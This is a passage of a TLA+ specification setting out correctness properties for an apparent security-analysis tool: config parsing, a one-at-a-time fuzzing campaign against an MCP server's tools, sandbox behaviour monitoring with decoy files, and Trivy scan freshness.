C28_Witness ==
    /\ Detected("LocalSource")
    /\ workspace.reference = <<"pkg", "@", "1">>
    /\ workspace.exists

\* line is a "key: <value>" line outside comments
LineFor(key, line) ==
    LET text == strip(line)
    IN  /\ Len(text) >= 3
        /\ text[1] # "#"
        /\ text[1] \in Identifiers /\ lower(text[1]) = key
        /\ text[2] = ":"
        /\ \E i \in 3..Len(text) : text[i] # " "

\* the trimmed value of a "key: <value>" line
ValueOf(line) == strip(SubSeq(strip(line), 3, Len(strip(line))))

LinesFor(key, lines) == {i \in 1..Len(lines) : LineFor(key, lines[i])}

\* C23: parse_config_file raises ValueError whenever the file contains no
\* "source: <value>" line outside comments (an empty file included); otherwise
\* it returns a mapping with exactly the six recognised keys, where each key
\* holds the trimmed value of its line and every key without a line is None;
\* comment lines, blank lines and unrecognised keys are ignored.
C23_ParseConfig ==
    pc \in {"parsed", "raised"} =>
        LET lines == workspace.config_path
        IN  /\ LinesFor("source", lines) = {} <=> (pc = "raised" /\ escaped = "ValueError")
            /\ pc = "parsed" =>
                  /\ DOMAIN result = ConfigKeys
                  /\ \A key \in ConfigKeys :
                        IF LinesFor(key, lines) = {} THEN result[key] = None
                        ELSE \E i \in LinesFor(key, lines) :
                                result[key] = [text |-> ValueOf(lines[i])]

\* a file whose only source line is a comment was rejected
C23_Witness ==
    /\ pc = "raised" /\ escaped = "ValueError"
    /\ workspace.config_path = <<<<"#", " ", "source", ":", " ", "commented">>,
                                 <<"ref", ":", " ", "main">>>>

\* the operations of the campaign, in the discovered order
CampaignOperations == discover_tools(mcp_server)

\* the payloads generated for the first k operations, in generation order
Generated(k) ==
    Flatten([i \in 1..k |->
                generate_adversarial_payloads(CampaignOperations[i], anthropic_api_key).value])

\* the payloads generated and not yet submitted
Unsent == IF pc = "awaiting" THEN Tail(pending) ELSE pending

\* C24: a campaign submits payloads strictly one at a time (none is sent
\* before the previous one's result is recorded) and returns exactly one
\* FuzzResult per generated payload, in generation order: operations in the
\* discovered order and, within each operation, payloads in generator order.
C24_OneAtATime ==
    pc \in {"campaign", "awaiting", "fuzzed", "raised"} =>
        /\ Len(log) - Len(fuzz_results) = IF pc = "awaiting" THEN 1 ELSE 0
        /\ \A i \in 1..Len(fuzz_results) :
              fuzz_results[i] = execute_payload(log[i], Respond(mcp_server, log[i]))
        /\ log \o Unsent = Generated(Len(CampaignOperations) - Len(todo))
        /\ pc = "fuzzed" =>
              /\ Len(fuzz_results) = Len(Generated(Len(CampaignOperations)))
              /\ \A i \in 1..Len(fuzz_results) :
                    fuzz_results[i].payload = Generated(Len(CampaignOperations))[i]

\* a finished campaign over two different operations with payloads of both
C24_Witness ==
    /\ pc = "fuzzed"
    /\ Len(CampaignOperations) = 2
    /\ CampaignOperations[1] # CampaignOperations[2]
    /\ \E i \in 1..Len(fuzz_results) :
          /\ i < Len(fuzz_results)
          /\ fuzz_results[i].payload.tool_name = CampaignOperations[1].name
          /\ fuzz_results[i + 1].payload.tool_name = CampaignOperations[2].name

RECURSIVE AlertsOf(_)
\* the descriptions of the WARNING and CRITICAL events of a list, in its order
AlertsOf(events) ==
    IF events = <<>> THEN <<>>
    ELSE (IF Head(events).severity \in {"WARNING", "CRITICAL"}
          THEN <<Head(events).description>> ELSE <<>>) \o AlertsOf(Tail(events))

\* position of a probe in the fixed order, by the type of its events
ProbeRank(event_type) ==
    CASE event_type = "filesystem" -> 1
      [] event_type = "network" -> 2
      [] event_type = "process" -> 3
      [] event_type = "syscall" -> 4

\* C25: after start_monitoring, generate_report returns a report whose events
\* are the four probes' outputs concatenated in the order filesystem, network,
\* process, log; whose alerts are the descriptions of the WARNING and CRITICAL
\* events in event order; and whose summary matches (total_events is the
\* number of events, critical_events + warning_events the number of alerts).
C25_Report ==
    pc = "reported" =>
        LET r == behavior_report
        IN  /\ r.events = monitor_filesystem_access(workspace)
                          \o monitor_network_activity(workspace)
                          \o monitor_process_execution(workspace)
                          \o collect_container_logs(workspace)
            /\ \A i, j \in 1..Len(r.events) :
                  i < j => ProbeRank(r.events[i].event_type) <= ProbeRank(r.events[j].event_type)
            /\ r.alerts = AlertsOf(r.events)
            /\ r.summary.total_events = Len(r.events)
            /\ r.summary.critical_events + r.summary.warning_events = Len(r.alerts)

\* a report with events of all four probes, some of them below WARNING
C25_Witness ==
    /\ pc = "reported"
    /\ {behavior_report.events[i].event_type : i \in 1..Len(behavior_report.events)}
          = {"filesystem", "network", "process", "syscall"}
    /\ behavior_report.summary.critical_events >= 1
    /\ behavior_report.summary.warning_events >= 2
    /\ Len(behavior_report.alerts) < Len(behavior_report.events)

\* the events of a report that have the given type
OfType(events, event_type) == SelectIn(events, EventsOfType(events, event_type))

\* the tool of a probe was missing, timed out or returned an error
DecoyToolFailed(i) == ~workspace.stat[i].ok
NetworkToolFailed ==
    \/ workspace.connections = "unreadable"
    \/ workspace.pcap = "unreadable"
    \/ workspace.pcap = "captured" /\ workspace.tshark.outcome # "ok"
ProcessToolFailed == ~workspace.ps.ok
LogToolFailed == ~workspace.logs.ok

\* C26: none of the four probes raises: when its tool is missing, times out
\* or returns an error the probe returns an empty list (or the events gathered
\* so far), and the other probes and generate_report still run.
C26_ProbesTolerant ==
    pc = "reported" =>
        LET events == behavior_report.events
        IN  /\ escaped = ""
            /\ behavior_report # None
            /\ \A i \in 1..Len(decoy_files) :
                  DecoyToolFailed(i) =>
                     \A k \in 1..Len(events) :
                        events[k].description # "ALERT: Decoy file accessed: " \o decoy_files[i]
            /\ NetworkToolFailed =>
                  \A k \in 1..Len(events) :
                     events[k].event_type = "network" =>
                        /\ events[k].description = "Outbound network connection detected"
                        /\ workspace.connections = "outbound"
            /\ ProcessToolFailed => OfType(events, "process") = <<>>
            /\ LogToolFailed => OfType(events, "syscall") = <<>>
            /\ OfType(events, "filesystem") = monitor_filesystem_access(workspace)
            /\ ~NetworkToolFailed =>
                  OfType(events, "network") = monitor_network_activity(workspace)
            /\ ~ProcessToolFailed =>
                  Len(OfType(events, "process"))
                     = Cardinality(workspace.ps.found \cap Range(suspicious_procs))
            /\ ~LogToolFailed =>
                  Len(OfType(events, "syscall"))
                     = IF workspace.logs.found \cap Range(error_patterns) = {} THEN 0 ELSE 1

\* ps and tshark failed; the decoy probe, the connection log and the log probe
\* still gave their events
C26_Witness ==
    /\ pc = "reported"
    /\ ProcessToolFailed
    /\ workspace.pcap = "captured" /\ workspace.tshark.outcome = "missing"
    /\ DecoyToolFailed(2)
    /\ Len(OfType(behavior_report.events, "filesystem")) = 2
    /\ Len(OfType(behavior_report.events, "network")) = 1
    /\ Len(OfType(behavior_report.events, "syscall")) = 1

\* the events a report holds for the decoy at position i
DecoyEvents(i) ==
    {k \in 1..Len(behavior_report.events) :
        behavior_report.events[k] =
            MonitoringEvent("filesystem", "ALERT: Decoy file accessed: " \o decoy_files[i],
                            "CRITICAL")}

AllDecoyEvents ==
    {k \in 1..Len(behavior_report.events) :
        behavior_report.events[k].event_type = "filesystem"}

FuzzAssigned == "Interrogation" \in Range(log) /\ CampaignError = ""
BehaviorAssigned == "BehaviorCollect" \in Range(log)

\* the scanner of the current call wrote a report that parses
FreshReport ==
    /\ env.written \notin {None, Garbage}
    /\ _parse_trivy_results(env.written).raised = ""

\* C29: a result reflects only the evidence of its own run: when
\* run_complete_analysis is called again on the same orchestrator, the later
\* result (a FAILED one included) holds no fuzz results, behaviour report or
\* scan evidence produced by an earlier run.
C29_OwnEvidence ==
    Returned =>
        /\ ~FuzzAssigned => result.fuzz_results = <<>>
        /\ ~BehaviorAssigned => result.behavior_report = None
        /\ ~FreshReport => result.scan_result = None

\* C30: the scan evidence scan_with_trivy returns is derived from a report
\* written by the current scanner invocation: when the scanner exits with a
\* non-zero status the result is absent, even if a report left by an earlier
\* scan exists at the output path.
C30_FreshReport ==
    env.scanner # "" =>
        /\ scan_result # None =>
              FreshReport /\ scan_result = _parse_trivy_results(env.written).value
        /\ ScannerFailed => scan_result = None

====
